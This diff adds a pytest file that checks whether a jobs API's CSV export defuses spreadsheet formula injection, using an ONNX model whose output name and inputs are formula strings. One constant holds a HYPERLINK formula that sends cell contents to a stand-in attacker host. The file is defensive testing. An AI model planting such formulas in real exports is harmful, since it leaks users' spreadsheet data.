@@ -1,0 +1,74 @@
+"""The "smaller ones" of the Trust issue, each as an attacker or a careless client meets it:
+formula cells in CSV downloads, the prediction cache across keys, brute force on the admin
+login, and filter values a list endpoint cannot use."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import orjson
+import pytest
+from onnx import TensorProto, helper
+
+from tests.jobs.api import create_file, created, result_url, wait_finished
+
+# Names and values a spreadsheet would run as formulas if written as they are.
+HOSTILE_OUTPUT = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+HOSTILE_TEXTS = ["=1+2", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-inf", "plain", "-1.5"]
+
+
+def hostile_text_model() -> bytes:
+    """A string input "text" [n] echoed by an output whose name is a formula, and "index", the
+    position of the text in a small vocabulary: -1 (a negative number) for any other text."""
+    graph = helper.make_graph(
+        [
+            helper.make_node(
+                "LabelEncoder",
+                ["text"],
+                ["index"],
+                domain="ai.onnx.ml",
+                keys_strings=["plain"],
+                values_int64s=[7],
+                default_int64=-1,
+            ),
+            helper.make_node("Identity", ["text"], [HOSTILE_OUTPUT]),
+        ],
+        "hostile_text",
+        [helper.make_tensor_value_info("text", TensorProto.STRING, ["n"])],
+        [
+            helper.make_tensor_value_info("index", TensorProto.INT64, ["n"]),
+            helper.make_tensor_value_info(HOSTILE_OUTPUT, TensorProto.STRING, ["n"]),
+        ],
+    )
+    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)]
+    return helper.make_model(graph, opset_imports=opsets, ir_version=8).SerializeToString()
+
+
+# --- 1. job results as CSV ---------------------------------------------------------------------
+
+
+@pytest.mark.django_db(transaction=True)
+def test_job_result_csv_quotes_formula_cells_and_keeps_numbers(jobs_client, make_model):
+    model = make_model(hostile_text_model(), name="hostile-text")
+    lines = b"".join(orjson.dumps({"text": text}) + b"\n" for text in HOSTILE_TEXTS)
+    job = created(create_file(jobs_client, model, lines, "rows.jsonl"))
+    assert wait_finished(jobs_client, job["id"]).status_code == 200
+
+    response = jobs_client.get(result_url(job["id"], format="csv"))
+    assert response.status_code == 200
+    header, *rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert header == ["index", "'" + HOSTILE_OUTPUT]
+    assert [row[1] for row in rows] == [
+        "'=1+2",
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1:A9)",
+        "'\t=1",
+        "'\r=1",
+        "'-inf",
+        "plain",
+        "-1.5",  # a number written as text is no formula: a spreadsheet reads minus one and a half
+    ]
+    # Numbers stay numbers, negative ones included.
+    assert [int(row[0]) for row in rows] == [-1, -1, -1, -1, -1, -1, -1, 7, -1]
